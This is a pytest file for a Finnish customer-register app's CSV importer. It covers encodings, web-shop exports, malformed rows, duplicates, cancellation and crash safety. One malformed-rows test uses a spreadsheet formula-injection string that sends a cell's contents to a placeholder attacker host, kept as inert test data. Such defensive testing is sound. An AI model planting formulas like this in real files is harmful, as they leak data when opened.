"""Importing customers from CSV files as offices and web shops write them: each encoding and
separator, WooCommerce and Shopify exports, malformed rows, duplicates, one transaction with
progress and cancellation, and a process killed half-way through."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import textwrap
import tracemalloc
from datetime import date
from pathlib import Path

import pytest
from helpers.csv_samples import DATA, write_customers_csv
from helpers.sample import REGISTER, person
from sqlalchemy import text

from tietosuoja_desktop.domain.csv_mapping import ColumnMapping, Target
from tietosuoja_desktop.domain.enums import CustomerKind, Language, OrderStatus
from tietosuoja_desktop.domain.listing import CustomerQuery, CustomerSort
from tietosuoja_desktop.services import open_services
from tietosuoja_desktop.services.csv_files import read_table
from tietosuoja_desktop.services.importing import (
    ImportCancelled,
    Importer,
    ImportOptions,
    OnDuplicate,
    RowStatus,
    make_plan,
)
from tietosuoja_desktop.storage import key_queries
from tietosuoja_desktop.storage.customer_queries import search_text
from tietosuoja_desktop.storage.integrity import integrity_check
from tietosuoja_desktop.storage.mapping import customer_record
from tietosuoja_desktop.storage.models import CustomerRow, CustomerSearchRow

REPO = Path(__file__).resolve().parents[3]


@pytest.fixture
def importer(services):
    return Importer(services)


@pytest.fixture
def register(services):
    return services.registers.add(REGISTER)


def everyone(services) -> list:
    return services.customers.page(CustomerQuery(sort=CustomerSort.ID), 0, 10_000)


def by_email(services) -> dict:
    return {c.email: c for c in everyone(services)}


def import_file(importer, path, options=None, mapping=None):
    table = importer.read(path)
    preview = importer.preview(table, mapping, options or ImportOptions())
    return table, preview, importer.run(preview)


# -- encodings, separators and headers ---------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "encoding", "delimiter", "rows"),
    [
        ("finnish_excel_cp1252.csv", "cp1252", ";", 3),
        ("finnish_utf8_bom.csv", "utf-8-sig", ";", 2),
        ("english_comma.csv", "utf-8", ",", 2),
        ("swedish_tab.tsv", "utf-8", "\t", 2),
        ("woocommerce_customers.csv", "utf-8", ",", 3),
        ("shopify_customers.csv", "utf-8", ",", 3),
    ],
)
def test_encoding_and_separator_are_detected(name, encoding, delimiter, rows):
    table = read_table(DATA / name)
    assert (table.encoding, table.delimiter, len(table.rows)) == (encoding, delimiter, rows)
    assert all(len(row.values) == len(table.headers) for row in table.rows)


def test_finnish_excel_file_in_windows_1252(services, importer, register):
    table, preview, result = import_file(
        importer, DATA / "finnish_excel_cp1252.csv", ImportOptions(register_ids=(register.id,))
    )
    assert preview.counts == {"new": 3, "duplicate": 0, "invalid": 0}
    assert result.created == 3
    people = by_email(services)
    aino = people["aino.makela@example.fi"]
    assert (aino.first_name, aino.last_name, aino.city) == ("Aino", "Mäkelä", "Tampere")
    assert aino.phone == "+358401234567"
    assert aino.customer_since == date(2021, 2, 3)
    assert aino.notes == "Kanta-asiakas, alennus 5 €"  # the euro sign is 0x80 in Windows-1252
    assert services.customers.get(aino.id).register_ids == (register.id,)
    liisa = people["liisa@kukkakauppa-ohman.example.fi"]
    assert liisa.kind is CustomerKind.ORGANISATION
    assert (liisa.organisation, liisa.business_id) == ("Kukkakauppa Öhman Ky", "1998095-0")
    assert liisa.phone == "+35822345678"
    assert people["orjan.strom@example.fi"].first_name == "Örjan"


def test_utf8_with_bom_language_and_iso_dates(services, importer):
    import_file(importer, DATA / "finnish_utf8_bom.csv")
    people = by_email(services)
    assert people["vaino.jarvinen@example.fi"].language is Language.FI
    assert people["asa.lindqvist@example.fi"].language is Language.SV
    assert people["vaino.jarvinen@example.fi"].customer_since == date(2020, 1, 15)
    # No date in the file: customer since the day of the import.
    assert people["asa.lindqvist@example.fi"].customer_since == date(2026, 11, 22)


def test_english_headers_quoted_commas_vat_number_and_second_address_line(services, importer):
    import_file(importer, DATA / "english_comma.csv")
    people = by_email(services)
    emily = people["emily.clarke@example.com"]
    assert emily.street_address == "Mannerheimintie 10, as. 5"
    assert emily.notes == "Prefers e-mail, not phone"
    tomi = people["tomi@laine-consulting.example.com"]
    assert tomi.business_id == "3282662-4"  # from the VAT number FI32826624
    assert tomi.street_address == "Tekniikantie 14, c/o Innopoli"
    assert tomi.customer_since == date(2021, 5, 12)  # 12/05/2021: day first


def test_swedish_headers_tab_separated(services, importer):
    import_file(importer, DATA / "swedish_tab.tsv")
    people = by_email(services)
    assert people["karin.nystrom@example.fi"].language is Language.SV
    mikael = people["mikael@blomqvist.example.ax"]
    assert mikael.organisation == "Blomqvist Ab"
    assert mikael.phone == "+3581812345"  # Åland, +358 18


def test_woocommerce_customer_export(services, importer):
    table = importer.read(DATA / "woocommerce_customers.csv")
    mapping = ColumnMapping.guess(table.headers)
    guessed = dict(zip(table.headers, mapping.targets, strict=True))
    assert guessed["billing_postcode"] is Target.POSTAL_CODE
    assert guessed["date_registered"] is Target.CUSTOMER_SINCE
    assert guessed["customer_id"] is Target.IGNORE
    assert guessed["total_spent"] is Target.IGNORE
    preview = importer.preview(table)
    assert preview.counts == {"new": 3, "duplicate": 0, "invalid": 0}
    importer.run(preview)
    people = {c.last_name: c for c in everyone(services)}
    sanna = people["Koskinen"]
    assert (sanna.postal_code, sanna.city, sanna.country) == ("90100", "Oulu", "FI")
    assert sanna.customer_since == date(2022, 9, 14)
    pekka = people["Heikkinen"]  # the account has no names: the billing ones are used
    assert (pekka.first_name, pekka.organisation) == ("Pekka", "Heikkisen Puutarha Oy")
    assert pekka.kind is CustomerKind.PERSON  # a contact person, no business ID
    assert people["Aaltonen"].email == ""  # a guest checkout with a name only


def test_shopify_customer_export(services, importer):
    table = importer.read(DATA / "shopify_customers.csv")
    guessed = dict(zip(table.headers, ColumnMapping.guess(table.headers).targets, strict=True))
    assert guessed["Accepts Email Marketing"] is Target.MARKETING_EMAIL
    assert guessed["Default Address Zip"] is Target.POSTAL_CODE
    assert guessed["Total Orders"] is Target.IGNORE
    preview = importer.preview(table)
    assert preview.counts["invalid"] == 0
    importer.run(preview)
    people = {c.last_name: c for c in everyone(services)}
    minna = people["Salonen"]
    # Shopify writes '00100 and '+358... so that Excel keeps them as text.
    assert (minna.postal_code, minna.phone) == ("00100", "+358401112233")
    assert minna.notes == "VIP"
    jari = people["Nieminen"]
    assert jari.phone == "+358505556677"  # the customer's phone when the address has none
    assert jari.street_address == "Satamakatu 2, B 7"


def test_woocommerce_order_export_with_orders(services, importer):
    options = ImportOptions(with_orders=True)
    table, preview, result = import_file(importer, DATA / "woocommerce_orders.csv", options)
    assert preview.counts == {"new": 2, "duplicate": 1, "invalid": 0}
    assert (result.created, result.orders, result.skipped) == (2, 3, 1)
    sanna = by_email(services)["sanna.koskinen@example.fi"]
    orders = services.activity.orders(sanna.id)
    assert [(o.reference, o.amount_cents, o.status) for o in orders] == [
        ("1052", 1850, OrderStatus.OPEN),
        ("1041", 4580, OrderStatus.DELIVERED),
    ]
    assert sanna.customer_since == date(2024, 3, 2)  # the first order
    with services.db.reading() as session:
        row = session.get(CustomerRow, sanna.id)
        assert row.last_order_on == date(2024, 4, 18)
    pekka = by_email(services)["pekka.heikkinen@example.net"]
    assert services.activity.orders(pekka.id)[0].status is OrderStatus.RETURNED


def test_orders_without_a_date_column_are_refused_for_the_whole_file(importer):
    table = importer.read(DATA / "woocommerce_orders.csv")
    mapping = ColumnMapping.guess(table.headers).with_overrides(table.headers, {"order_date": ""})
    preview = importer.preview(table, mapping, ImportOptions(with_orders=True))
    assert [p.field for p in preview.problems] == ["mapping"]
    assert not preview.can_import


def test_a_file_without_a_name_column_cannot_be_imported(importer, tmp_path):
    path = tmp_path / "emails.csv"
    path.write_text("Sähköposti;Puhelin\na@example.fi;040 123 4567\n", encoding="utf-8")
    preview = importer.preview(importer.read(path))
    assert preview.problems and not preview.can_import
    with pytest.raises(ValueError):
        importer.run(preview)


def test_mapping_can_be_changed_by_header_or_column_number(importer):
    table = importer.read(DATA / "finnish_utf8_bom.csv")
    mapping = ColumnMapping.guess(table.headers).with_overrides(
        table.headers, {"Puhelin": "", "0": "last_name", "Sukunimi": "first_name"}
    )
    assert mapping.targets[:4] == (
        Target.LAST_NAME,
        Target.FIRST_NAME,
        Target.EMAIL,
        Target.IGNORE,
    )
    with pytest.raises(KeyError):
        mapping.with_overrides(table.headers, {"Ei tällaista": "email"})
    with pytest.raises(ValueError):
        mapping.with_overrides(table.headers, {"Puhelin": "shoe_size"})


# -- malformed rows ------------------------------------------------------------------------------


def test_malformed_rows_are_refused_with_their_reasons(services, importer, tmp_path):
    table = importer.read(DATA / "malformed.csv")
    preview = importer.preview(table)
    status = {row.line: row.status for row in preview.rows}
    assert status == {
        2: RowStatus.NEW,
        3: RowStatus.INVALID,  # too few columns
        4: RowStatus.INVALID,  # too many columns
        5: RowStatus.INVALID,  # a control character in the name
        6: RowStatus.NEW,  # a formula is only text here; exports neutralise it
        7: RowStatus.INVALID,  # not an e-mail address
        8: RowStatus.INVALID,  # a quotation mark never closed swallows the rest
    }
    reasons = {row.line: [p.field for p in row.problems] for row in preview.rejected()}
    assert reasons[3] == ["row"] and reasons[4] == ["row"]
    assert reasons[5] == ["first_name"]
    assert reasons[7] == ["email"]
    assert reasons[8][0] == "row"
    assert "quotation mark" in preview.rejected()[-1].problems[0].render()

    result = importer.run(preview)
    assert (result.created, result.rejected) == (2, 5)
    names = {c.first_name for c in everyone(services)}
    assert names == {"Aino", '=HYPERLINK("http://evil.example/?leak="&C7;"Avaa")'}

    rejected = tmp_path / "refused.csv"
    assert Importer.write_rejected(preview, rejected) == 5
    back = read_table(rejected)
    assert back.headers[:2] == ("Line", "Reasons") and back.headers[2:] == table.headers
    assert [row.values[0] for row in back.rows] == ["3", "4", "5", "7", "8"]
    assert "3 columns" not in back.rows[0].values[1] and "2 columns" in back.rows[0].values[1]
    assert back.rows[2].values[2] == "Eeva\x07"  # the row as it was, to fix and import again


def test_a_ten_megabyte_field_is_read_and_refused(services, importer, tmp_path):
    path = tmp_path / "huge.csv"
    huge = "x" * (10 * 1024 * 1024)
    path.write_text(
        f"Etunimi;Sukunimi;Lisätiedot\nAino;Virtanen;lyhyt\nBertta;Berg;{huge}\nCecilia;Koski;\n",
        encoding="utf-8",
    )
    preview = importer.preview(importer.read(path))
    assert [row.status for row in preview.rows] == [
        RowStatus.NEW,
        RowStatus.INVALID,
        RowStatus.NEW,
    ]
    assert [p.field for p in preview.rejected()[0].problems] == ["notes"]
    importer.run(preview)
    assert services.customers.count() == 2
    rejected = tmp_path / "refused.csv"
    Importer.write_rejected(preview, rejected)
    assert len(read_table(rejected).rows[0].values[4]) == len(huge)


def test_nul_bytes_and_odd_bytes_become_reasons_not_crashes(importer, tmp_path):
    path = tmp_path / "odd.csv"
    # 0x81 is undefined in Windows-1252: the file is read as ISO-8859-1 and the row refused.
    path.write_bytes(b"Etunimi;Sukunimi\nAino;Vir\x00tanen\nBertta;B\x81erg\nCecilia;Koski\n")
    table = importer.read(path)
    assert table.encoding == "latin-1"
    preview = importer.preview(table)
    assert [row.status for row in preview.rows] == [
        RowStatus.INVALID,
        RowStatus.INVALID,
        RowStatus.NEW,
    ]


def test_empty_and_header_only_files(importer, tmp_path):
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"")
    header_only = tmp_path / "header.csv"
    header_only.write_text("Etunimi;Sukunimi\n", encoding="utf-8")
    for path in (empty, header_only):
        preview = importer.preview(importer.read(path))
        assert preview.rows == [] and not preview.can_import


# -- duplicates ----------------------------------------------------------------------------------


@pytest.fixture
def known(services):
    """A customer already in the register."""
    return services.customers.add(
        person(
            first_name="Aino",
            last_name="Mäkelä",
            email="Aino.Makela@example.fi",
            phone="",
            street_address="",
            postal_code="",
            city="",
        )
    )


def _duplicates_file(tmp_path) -> Path:
    path = tmp_path / "duplicates.csv"
    path.write_text(
        "Etunimi;Sukunimi;Sähköposti;Puhelin;Katuosoite;Postinumero;Postitoimipaikka;Y-tunnus;"
        "Henkilötunnus\n"
        "Aino;Mäkelä;aino.makela@EXAMPLE.fi;040 123 4567;Kauppakatu 1;00100;Helsinki;;\n"
        "Bertta;Berg;bertta@example.fi;;;;;2551704-9;\n"
        "B.;Berg;;050 765 4321;Rantatie 2;20100;Turku;2551704-9;\n"
        "Cecilia;Koski;cecilia@example.fi;;;;;;131052-308T\n"
        "Cissi;Koski;cissi@example.fi;;;;;;131052-308T\n",
        encoding="utf-8",
    )
    return path


def test_duplicates_in_the_register_and_in_the_file_are_found(importer, known, tmp_path):
    preview = importer.preview(importer.read(_duplicates_file(tmp_path)))
    found = {row.line: row.duplicate for row in preview.rows}
    assert (found[2].customer_id, found[2].key) == (known.id, "email")  # case-insensitive
    assert found[3] is None
    assert (found[4].line, found[4].key) == (3, "business_id")
    assert found[5] is None
    assert (found[6].line, found[6].key) == (5, "personal_id")
    assert preview.counts == {"new": 2, "duplicate": 3, "invalid": 0}


def test_the_register_is_searched_only_for_the_files_keys_and_finds_what_reading_it_all_did(
    services, importer, tmp_path
):
    """The duplicates' keys are looked for by SQLite (storage/key_queries.py), whose lower()
    and trim() agree with casefold() and strip() only on printable ASCII: stored values beyond
    it (a letter beyond ASCII, the Kelvin sign that casefolds to k, a tab or a no-break space
    around an ID, written here past validation) are compared in Python, and the first customer
    holding a key wins, as when every customer was read."""
    first = services.customers.add(person(first_name="Äiti", email="ÄITI@Esimerkki.FI"))
    services.customers.add(person(first_name="Toinen", email="äiti@esimerkki.fi"))
    kelvin = services.customers.add(person(first_name="Kalle", email="kalle@example.fi"))
    spaced = services.customers.add(person(first_name="Yritys", business_id="2551704-9"))
    tabbed = services.customers.add(person(first_name="Hetu", personal_id="131052-308T"))
    unrelated = services.customers.add(person(first_name="Muu", email="muu@example.fi"))
    with services.db.transaction() as session:  # as an older version might have stored them
        session.execute(
            text("UPDATE customer SET email = :e WHERE id = :i"),
            {"e": "\u212aALLE@example.fi", "i": kelvin.id},
        )
        session.execute(
            text("UPDATE customer SET business_id = :b WHERE id = :i"),
            {"b": "\u00a02551704-9 ", "i": spaced.id},
        )
        session.execute(
            text("UPDATE customer SET personal_id = :p WHERE id = :i"),
            {"p": "\t131052-308T", "i": tabbed.id},
        )
    path = tmp_path / "keys.csv"
    path.write_text(
        "Etunimi;Sukunimi;Sähköposti;Y-tunnus;Henkilötunnus\n"
        "A;Uusi;äiti@ESIMERKKI.fi;;\n"
        "B;Uusi;kalle@EXAMPLE.fi;;\n"
        "C;Uusi;c@example.fi;2551704-9;\n"
        "D;Uusi;d@example.fi;;131052-308T\n"
        "E;Uusi;e@example.fi;;\n",
        encoding="utf-8",
    )
    preview = importer.preview(importer.read(path))
    found = {row.line: row.duplicate for row in preview.rows}
    assert (found[2].customer_id, found[2].key) == (first.id, "email")
    assert (found[3].customer_id, found[3].key) == (kelvin.id, "email")
    assert (found[4].customer_id, found[4].key) == (spaced.id, "business_id")
    assert (found[5].customer_id, found[5].key) == (tabbed.id, "personal_id")
    assert found[6] is None
    with services.db.reading() as session:
        everyone_keys = dict(
            key_queries.holding(session, "email", str.casefold, ["muu@example.fi"])
        )
    assert everyone_keys == {unrelated.id: "muu@example.fi"}


def test_skip_leaves_the_register_as_it_was(services, importer, known, tmp_path):
    _, _, result = import_file(importer, _duplicates_file(tmp_path))
    assert (result.created, result.skipped, result.merged) == (2, 3, 0)
    assert services.customers.get(known.id).phone == ""
    berg = by_email(services)["bertta@example.fi"]
    assert berg.street_address == ""


def test_merge_fills_in_only_what_is_missing(services, importer, known, tmp_path):
    options = ImportOptions(on_duplicate=OnDuplicate.MERGE)
    _, _, result = import_file(importer, _duplicates_file(tmp_path), options)
    assert (result.created, result.merged) == (2, 3)
    aino = services.customers.get(known.id)
    assert aino.email == "Aino.Makela@example.fi"  # never overwritten
    assert (aino.phone, aino.street_address, aino.city) == ("+358401234567", "Kauppakatu 1",
                                                            "Helsinki")  # fmt: skip
    assert [c.id for c in services.customers.search("040 123 4567")] == [known.id]
    bertta = by_email(services)["bertta@example.fi"]
    assert bertta.first_name == "Bertta"  # the first row's name stays
    assert (bertta.phone, bertta.postal_code) == ("+358507654321", "20100")
    assert services.customers.count() == 3


def test_the_plan_holds_one_small_object_per_new_customer(importer, tmp_path):
    """A plan of 100,000 new customers fits beside the preview (issue 18: peak memory under
    250 MB): slotted records sharing their empty orders and permissions, not a dict and two
    empty lists each (264 bytes a customer)."""
    preview = importer.preview(importer.read(write_customers_csv(tmp_path / "many.csv", 2000)))
    tracemalloc.start()
    try:
        plan = make_plan(preview)
        size, _peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(plan.new) == 2000
    assert [item.customer for item in plan.new] == [row.customer for row in preview.rows]
    assert size / len(plan.new) < 100


# -- one transaction: progress, cancellation, failure ---------------------------------------------


def test_progress_is_reported_and_one_audit_entry_names_no_values(services, importer, tmp_path):
    path = write_customers_csv(tmp_path / "many.csv", 12_000)
    seen = []
    table = importer.read(path)
    preview = importer.preview(table, progress=lambda done, total: seen.append(("check", done)))
    importer.run(preview, progress=lambda done, total: seen.append(("write", done, total)))
    assert seen[-1] == ("write", 12_000, 12_000)
    writes = [s[1] for s in seen if s[0] == "write"]
    assert writes == sorted(writes) and len(writes) >= 3
    assert services.customers.count() == 12_000
    entries = [e for e in services.audit.recent(10) if e.action == "import"]
    assert len(entries) == 1
    assert "email" in entries[0].fields and "phone" in entries[0].fields
    personal = {c.email for c in everyone(services)[:50]} | {"Aino", "Virtanen"}
    assert not personal & set(entries[0].fields)


def test_cancel_rolls_everything_back(services, importer, tmp_path):
    path = write_customers_csv(tmp_path / "many.csv", 12_000)
    preview = importer.preview(importer.read(path))
    calls = []

    def cancel_after_first_chunk() -> bool:
        calls.append(1)
        return len(calls) > 1

    with pytest.raises(ImportCancelled):
        importer.run(preview, cancel=cancel_after_first_chunk)
    assert services.customers.count() == 0
    assert not [e for e in services.audit.recent(10) if e.action == "import"]
    with services.db.reading() as session:
        assert session.execute(text("SELECT count(*) FROM customer_search")).scalar() == 0
        # The indexes set aside for the bulk load are back.
        names = session.execute(
            text("SELECT name FROM sqlite_master WHERE type='index' AND tbl_name='customer'")
        ).scalars()
        assert "ix_customer_email" in set(names)


def test_a_failure_half_way_leaves_nothing_behind(services, importer, tmp_path, monkeypatch):
    from tietosuoja_desktop.services import import_writer

    path = write_customers_csv(tmp_path / "many.csv", 11_000)
    preview = importer.preview(importer.read(path))
    calls = []
    original = import_writer.search_text

    def failing(customer):
        calls.append(1)
        if len(calls) > 7000:
            raise OSError("disk full")
        return original(customer)

    monkeypatch.setattr(import_writer, "search_text", failing)
    with pytest.raises(OSError, match="disk full"):
        importer.run(preview)
    assert services.customers.count() == 0


def test_cancel_while_checking(importer, tmp_path):
    import threading

    path = write_customers_csv(tmp_path / "many.csv", 5000)
    event = threading.Event()
    event.set()
    with pytest.raises(ImportCancelled):
        importer.preview(importer.read(path), cancel=event)


def test_imported_rows_read_back_like_rows_the_app_wrote(services, importer, register, tmp_path):
    path = write_customers_csv(tmp_path / "some.csv", 300)
    options = ImportOptions(register_ids=(register.id,))
    import_file(importer, path, options)
    with services.db.reading() as session:
        for row in session.query(CustomerRow).limit(300):
            stored = session.get(CustomerSearchRow, row.id).text
            assert stored == search_text(customer_record(row))
            assert row.created_at.year == 2026 and isinstance(row.customer_since, date)
    first = everyone(services)[0]
    assert [c.id for c in services.customers.search(first.email[:12])][:1] == [first.id]
    assert services.customers.count(CustomerQuery(register_id=register.id)) == 300
    assert not integrity_check(services.db.path, services.db.key)


def test_ids_of_erased_people_are_not_reused(services, importer, tmp_path):
    first = services.customers.add(person(email="first@example.fi"))
    last = services.customers.add(person(email="last@example.fi"))
    services.erasure.erase(last.id)
    path = write_customers_csv(tmp_path / "few.csv", 3)
    _, _, result = import_file(importer, path)
    assert result.first_id == last.id + 1
    assert first.id < last.id


# -- a process killed in the middle ---------------------------------------------------------------

KILLED_IMPORT = textwrap.dedent(
    """
    import sys
    from datetime import date
    from pathlib import Path
    from tietosuoja_desktop.services import FixedClock, open_services
    from tietosuoja_desktop.services.importing import Importer

    services = open_services(Path(sys.argv[1]), FixedClock(date(2026, 11, 22)))
    importer = Importer(services)
    preview = importer.preview(importer.read(Path(sys.argv[2])))
    print("checked", flush=True)

    def progress(done, total):
        print("written", done, total, flush=True)

    importer.run(preview, progress=progress)
    print("committed", flush=True)
    services.close()
    """
)


@pytest.mark.slow  # a child process importing 30,000 rows, killed (3-5 s each)
@pytest.mark.parametrize("kill_after_chunks", [1, 4])
def test_an_import_killed_with_sigkill_leaves_none_or_all(tmp_path, clock, kill_after_chunks):
    data_dir = tmp_path / "killed"
    with open_services(data_dir, clock) as services:
        services.customers.add(person(email="before@example.fi"))
    rows = 30_000
    path = write_customers_csv(tmp_path / "big.csv", rows)
    process = subprocess.Popen(
        [sys.executable, "-c", KILLED_IMPORT, str(data_dir), str(path)],
        stdout=subprocess.PIPE,
        text=True,
        cwd=REPO,
        env={**os.environ, "PYTHONPATH": str(REPO)},
    )
    try:
        chunks = 0
        for line in process.stdout:
            if line.startswith("written") and int(line.split()[1]) > 0:
                chunks += 1
                if chunks >= kill_after_chunks:
                    break
        process.send_signal(signal.SIGKILL)
    finally:
        process.wait(timeout=60)
        process.stdout.close()
    assert process.returncode == -signal.SIGKILL

    assert integrity_check(data_dir / "tietosuoja.sqlite") == []
    with open_services(data_dir, clock) as services:
        count = services.customers.count()
        assert count in (1, 1 + rows)  # none of the import, or all of it
        with services.db.reading() as session:
            searchable = session.execute(text("SELECT count(*) FROM customer_search")).scalar()
            session.execute(
                text("INSERT INTO customer_fts(customer_fts) VALUES ('integrity-check')")
            )
        assert searchable == count
        assert [c.email for c in services.customers.search("before@")] == ["before@example.fi"]


def test_values_shared_by_a_whole_chunk_go_in_intact(services, importer, tmp_path):
    """Columns with one value in every row are written as SQL literals: quotes and all."""
    path = tmp_path / "same.csv"
    rows = "".join(f"Seán;O'Brien;sean{i}@example.ie;Dún Laoghaire 'Pier';IE\n" for i in range(40))
    path.write_text("Etunimi;Sukunimi;Sähköposti;Kaupunki;Maa\n" + rows, encoding="utf-8")
    import_file(importer, path)
    people = everyone(services)
    assert len(people) == 40
    assert {(c.last_name, c.city, c.country, c.phone) for c in people} == {
        ("O'Brien", "Dún Laoghaire 'Pier'", "IE", "")
    }
    assert [c.email for c in services.customers.search("o'brien")][:1] == ["sean0@example.ie"]


def test_an_order_dated_after_today_marks_its_row_invalid(services, importer, tmp_path):
    source = tmp_path / "tilaukset.csv"
    source.write_text(
        "Etunimi;Sukunimi;Sähköposti;Tilauspäivä;Summa\n"
        "Aino;Aalto;aino@example.fi;1.11.2026;12,50\n"
        "Eino;Eskola;eino@example.fi;1.12.2036;9,90\n",
        encoding="utf-8",
    )
    table, preview, result = import_file(importer, source, ImportOptions(with_orders=True))
    assert preview.counts == {"new": 1, "duplicate": 0, "invalid": 1}
    (bad,) = [row for row in preview.rows if row.problems]
    assert [p.field for p in bad.problems] == ["order_date"]
    assert result.created == 1 and result.orders == 1
